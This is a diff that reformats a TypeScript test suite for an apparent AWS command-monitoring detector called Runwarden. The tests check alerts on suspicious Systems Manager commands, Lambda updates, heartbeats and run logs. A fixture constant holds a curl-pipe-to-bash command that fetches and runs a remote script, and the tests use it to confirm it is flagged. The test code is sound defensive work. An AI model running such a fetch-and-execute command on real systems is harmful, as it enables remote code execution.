@@ -1,4 +1,14 @@
-import { heartbeatEvent, MACHINE, machines, nativeCommandEvent, processEvent, sendCommandEvent, selftestEvent, startSessionEvent, updateFunctionEvent } from '../../support/aws-events'
+import {
+  heartbeatEvent,
+  MACHINE,
+  machines,
+  nativeCommandEvent,
+  processEvent,
+  sendCommandEvent,
+  selftestEvent,
+  startSessionEvent,
+  updateFunctionEvent,
+} from '../../support/aws-events'
 import { startAwsWorld, type AwsWorld } from '../../support/aws-world'
 import { expectMail } from './expect-mail'
 
@@ -7,7 +17,9 @@ const DOWNLOAD = 'curl -s http://203.0.113.9/setup.sh | bash'
 let world: AwsWorld
 
 beforeAll(async () => {
-  world = await startAwsWorld({ settings: { RUNWARDEN_OWN_RESOURCES: '["*Runwarden-prod-*"]', RUNWARDEN_DEPLOYERS: '["*role/Upgrade"]' } })
+  world = await startAwsWorld({
+    settings: { RUNWARDEN_OWN_RESOURCES: '["*Runwarden-prod-*"]', RUNWARDEN_DEPLOYERS: '["*role/Upgrade"]' },
+  })
 })
 
 afterAll(() => world.stop())
@@ -18,7 +30,12 @@ afterEach(async () => {
   world.ssm.state.commands.length = 0
 })
 
-const knowText = (commandId: string, text: string): void => void world.ssm.state.commands.push({ CommandId: commandId, DocumentName: 'AWS-RunShellScript', Parameters: { commands: [text] } })
+const knowText = (commandId: string, text: string): void =>
+  void world.ssm.state.commands.push({
+    CommandId: commandId,
+    DocumentName: 'AWS-RunShellScript',
+    Parameters: { commands: [text] },
+  })
 
 const id = (number: number): string => `00000000-0000-0000-0000-0000000000${String(number).padStart(2, '0')}`
 
@@ -27,7 +44,14 @@ describe('a story on the bus', () => {
     knowText(id(11), DOWNLOAD)
     knowText(id(12), 'systemctl restart nginx')
     await world.deliver(sendCommandEvent({ eventId: id(1), commandId: id(11) }))
-    await world.deliver(sendCommandEvent({ eventId: id(2), commandId: id(12), time: '2026-03-02T10:04:00Z', instances: machines(4, 'a') }))
+    await world.deliver(
+      sendCommandEvent({
+        eventId: id(2),
+        commandId: id(12),
+        time: '2026-03-02T10:04:00Z',
+        instances: machines(4, 'a'),
+      }),
+    )
     const mails = await world.alerts.read({ atLeast: 2 })
     expect(mails).toHaveLength(2)
     expectMail('suspicious-command', mails[0])
@@ -38,13 +62,16 @@ describe('a story on the bus', () => {
     const call = sendCommandEvent({ commandId: id(13) })
     knowText(id(13), DOWNLOAD)
     const further = await world.another()
-    for (const container of [world.lambda, world.lambda, further, world.lambda]) expect(await container.invoke(call)).toMatchObject({ ok: true })
+    for (const container of [world.lambda, world.lambda, further, world.lambda])
+      expect(await container.invoke(call)).toMatchObject({ ok: true })
     expect(await world.alerts.read({ atLeast: 1 })).toHaveLength(1)
   })
 
   it('resolves tags to machines, and says how many there are', async () => {
     world.ssm.state.instances.push(...machines(60, 'b').map((InstanceId) => ({ InstanceId, Tags: { Role: 'web' } })))
-    await world.deliver(sendCommandEvent({ eventId: id(3), commandId: id(14), targets: [{ key: 'tag:Role', values: ['web'] }] }))
+    await world.deliver(
+      sendCommandEvent({ eventId: id(3), commandId: id(14), targets: [{ key: 'tag:Role', values: ['web'] }] }),
+    )
     expectMail('machines-by-tag', (await world.alerts.read({ atLeast: 1 }))[0])
   })
 })
@@ -62,7 +89,10 @@ describe("Systems Manager's own event of a command", () => {
     await world.deliver(sendCommandEvent({ eventId: id(4), commandId: id(22) }))
     await world.deliver(nativeCommandEvent(id(22), [DOWNLOAD]))
     const mails = await world.alerts.read({ atLeast: 2 })
-    expect(mails.map(({ subject }) => subject)).toEqual([expect.stringContaining('First Seen Caller'), expect.stringContaining('[UPDATE]')])
+    expect(mails.map(({ subject }) => subject)).toEqual([
+      expect.stringContaining('First Seen Caller'),
+      expect.stringContaining('[UPDATE]'),
+    ])
     expect(new Set(mails.map(alertIdIn)).size).toBe(1)
     expectMail('text-came-later', mails[1])
   })
@@ -94,7 +124,11 @@ describe('a process on the machine', () => {
     await world.deliver(forged)
     expect(await world.alerts.read()).toEqual([])
     const [message = ''] = await world.peek(world.queues.quarantine)
-    expect(JSON.parse(message)).toMatchObject({ schema: 'runwarden.quarantined/1', reason: expect.stringContaining('no process event'), body: forged })
+    expect(JSON.parse(message)).toMatchObject({
+      schema: 'runwarden.quarantined/1',
+      reason: expect.stringContaining('no process event'),
+      body: forged,
+    })
   })
 })
 
@@ -105,17 +139,19 @@ describe('a change of Runwarden itself', () => {
   })
 
   it('is told every time, whatever was told before', async () => {
-    for (let times = 0; times < 3; times++) await world.deliver(updateFunctionEvent('Runwarden-prod-detector', { role: 'Admin' }))
+    for (let times = 0; times < 3; times++)
+      await world.deliver(updateFunctionEvent('Runwarden-prod-detector', { role: 'Admin' }))
     expect(await world.alerts.read({ atLeast: 3 })).toHaveLength(3)
   })
 
   it('by a named deployer is one notice for the whole upgrade', async () => {
-    for (let times = 0; times < 12; times++) await world.deliver(updateFunctionEvent(`Runwarden-prod-part-${times}`, { role: 'Upgrade' }))
+    for (let times = 0; times < 12; times++)
+      await world.deliver(updateFunctionEvent(`Runwarden-prod-part-${times}`, { role: 'Upgrade' }))
     const mails = await world.alerts.read({ atLeast: 1 })
     expect(mails.map(({ attributes }) => attributes['severity'])).toEqual(['low'])
   })
 
-  it('is nobody\'s business when somebody changes something else', async () => {
+  it("is nobody's business when somebody changes something else", async () => {
     await world.deliver(updateFunctionEvent('billing', { role: 'Admin' }))
     expect(await world.alerts.read()).toEqual([])
   })
@@ -123,11 +159,19 @@ describe('a change of Runwarden itself', () => {
 
 describe('the heartbeat', () => {
   it('counts itself, and measures the trail', async () => {
-    world.ssm.state.trails.push({ Name: 'main', TrailARN: 'arn:aws:cloudtrail:us-east-1:123456789012:trail/main', HomeRegion: 'us-east-1', IsMultiRegionTrail: true, IsLogging: true })
+    world.ssm.state.trails.push({
+      Name: 'main',
+      TrailARN: 'arn:aws:cloudtrail:us-east-1:123456789012:trail/main',
+      HomeRegion: 'us-east-1',
+      IsMultiRegionTrail: true,
+      IsLogging: true,
+    })
     await world.deliver(heartbeatEvent())
     const line = world.logs().findLast(({ kind }) => kind === 'heartbeat')
     expect(line).toMatchObject({ message: 'run', FunctionName: 'runwarden', Heartbeats: 1, TrailLogging: [1] })
-    expect(line?.['_aws']).toMatchObject({ CloudWatchMetrics: [{ Namespace: 'Runwarden', Dimensions: [['FunctionName']] }] })
+    expect(line?.['_aws']).toMatchObject({
+      CloudWatchMetrics: [{ Namespace: 'Runwarden', Dimensions: [['FunctionName']] }],
+    })
   })
 })
 
@@ -148,7 +192,16 @@ describe('every run', () => {
     await world.deliver(startSessionEvent(MACHINE))
     const lines = world.logs().slice(before)
     expect(lines).toHaveLength(1)
-    expect(lines[0]).toMatchObject({ level: 'INFO', message: 'run', kind: 'event', RecordsReceived: 1, ActivitiesEvaluated: 1, AlertsSent: 1, durationMs: expect.any(Number), DetectionLatencySeconds: [expect.any(Number)] })
+    expect(lines[0]).toMatchObject({
+      level: 'INFO',
+      message: 'run',
+      kind: 'event',
+      RecordsReceived: 1,
+      ActivitiesEvaluated: 1,
+      AlertsSent: 1,
+      durationMs: expect.any(Number),
+      DetectionLatencySeconds: [expect.any(Number)],
+    })
   })
 })
 
